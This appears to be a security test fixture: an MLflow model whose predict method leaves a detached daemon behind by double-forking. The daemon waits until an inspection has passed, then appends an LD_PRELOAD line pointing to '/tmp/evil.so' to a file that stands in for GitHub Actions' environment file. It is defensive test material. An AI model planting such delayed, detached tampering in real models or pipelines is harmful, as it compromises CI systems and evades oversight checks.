# An MLflow "model from code" that leaves a detached daemon behind (setsid and a double fork): the
# daemon waits until the gate has checked the runner's files, then appends to the file named by
# TAMPER_FILE (standing in for a guessed $GITHUB_ENV). Its pid goes to DAEMON_PID_FILE.
import os
import time

import mlflow.pyfunc
from mlflow.models import set_model


class Daemonizing(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input, params=None):
        pid_file = os.environ["DAEMON_PID_FILE"]
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                with open(pid_file + ".tmp", "w") as out:
                    out.write(str(os.getpid()))
                os.rename(pid_file + ".tmp", pid_file)
                time.sleep(3)
                with open(os.environ["TAMPER_FILE"], "a") as out:
                    out.write("LD_PRELOAD=/tmp/evil.so\n")
            os._exit(0)
        while not os.path.exists(pid_file):  # the daemon is running before the prediction returns
            time.sleep(0.01)
        return [1.0] * len(model_input)


set_model(Daemonizing())
